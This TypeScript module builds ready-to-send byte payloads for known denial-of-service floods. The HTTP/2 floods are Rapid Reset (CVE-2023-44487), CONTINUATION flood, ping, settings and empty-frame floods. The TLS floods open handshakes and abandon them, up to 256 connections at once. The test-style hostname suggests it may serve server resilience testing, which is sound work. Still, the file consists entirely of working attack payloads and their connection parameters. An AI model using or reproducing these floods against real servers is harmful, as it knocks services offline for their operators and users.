/** What each flood consists of: the bytes that begin a connection, and those that come again and again. */

export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const DATA = 0
const HEADERS = 1
const RESET = 3
export const SETTINGS = 4
const PING = 6
export const GOAWAY = 7
const CONTINUATION = 9
const END_STREAM = 1
const END_HEADERS = 4
const START = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0)])

/** Indexed fields of HPACK's static table, and the authority as a literal. */
const block = (method: number): Buffer =>
  Buffer.concat([Buffer.from([0x80 | method, 0x86, 0x84, 0x41, 6]), Buffer.from('a.test')])
const GET = block(2)
const POST = block(3)
const FIELD = Buffer.concat([Buffer.from([0, 1, 0x78, 100]), Buffer.alloc(100, 'y')])

const uint16 = (value: number): Buffer => Buffer.from([value >> 8, value & 255])
/** A vector of TLS: its length in so many bytes, and what it holds. */
function vector(lengthBytes: number, ...pieces: readonly Buffer[]): Buffer {
  const bytes = Buffer.concat(pieces)
  const length = Buffer.alloc(lengthBytes)
  length.writeUIntBE(bytes.length, 0, lengthBytes)
  return Buffer.concat([length, bytes])
}
const extension = (type: number, ...pieces: readonly Buffer[]): Buffer =>
  Buffer.concat([uint16(type), vector(2, ...pieces)])

/** The first message of a handshake of TLS 1.3, which has all that its answer needs: a key exchange and a signature (RFC 8446 §4.1.2). */
function hello(): Buffer {
  const x25519 = uint16(29)
  const extensions = [
    extension(43, vector(1, uint16(0x0304))), // supported_versions
    extension(10, vector(2, x25519)), // supported_groups
    extension(13, vector(2, uint16(0x0403), uint16(0x0804))), // signature_algorithms
    extension(51, vector(2, x25519, vector(2, Buffer.alloc(32, 9)))), // key_share
  ]
  const suites = vector(2, uint16(0x1301))
  const body = [
    uint16(0x0303),
    Buffer.alloc(32, 7),
    vector(1),
    suites,
    vector(1, Buffer.alloc(1)),
    vector(2, ...extensions),
  ]
  return Buffer.concat([Buffer.from([22, 3, 1]), vector(2, Buffer.from([1]), vector(3, ...body))])
}

export interface Flood {
  readonly about: string
  readonly service: 'h2' | 'tls'
  readonly start: Buffer
  /** The i-th of what comes again and again, on one connection. null: only connections do. */
  readonly again: ((i: number) => Buffer) | null
  /** Connections. */
  readonly atATime: number
  /** They are all made before any says something. */
  readonly together: boolean
}

const FRAMES = { service: 'h2', atATime: 4, together: false } as const

export const FLOODS: Readonly<Record<string, Flood>> = {
  'rapid-reset': {
    about: 'requests that are reset at once (CVE-2023-44487)',
    ...FRAMES,
    start: START,
    again: (i) =>
      Buffer.concat([
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, GET),
        frame(RESET, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8])),
      ]),
  },
  continuation: {
    about: 'a head without end (CVE-2024-27983)',
    ...FRAMES,
    start: Buffer.concat([START, frame(HEADERS, 0, 1, GET)]),
    again: () => frame(CONTINUATION, 0, 1, FIELD),
  },
  ping: {
    about: 'pings (CVE-2019-9512)',
    ...FRAMES,
    start: START,
    again: () => frame(PING, 0, 0, Buffer.alloc(8, 1)),
  },
  settings: {
    about: 'settings (CVE-2019-9515)',
    ...FRAMES,
    start: START,
    again: () => frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])),
  },
  'empty-frames': {
    about: 'frames without content (CVE-2019-9518)',
    ...FRAMES,
    start: Buffer.concat([START, frame(HEADERS, END_HEADERS, 1, POST)]),
    again: () => frame(DATA, 0, 1),
  },
  handshakes: {
    about: 'TLS handshakes that are begun and left',
    service: 'tls',
    start: hello(),
    again: null,
    atATime: 32,
    together: false,
  },
  'handshake-bursts': {
    about: 'the same, 256 connections that all begin at once',
    service: 'tls',
    start: hello(),
    again: null,
    atATime: 256,
    together: true,
  },
}
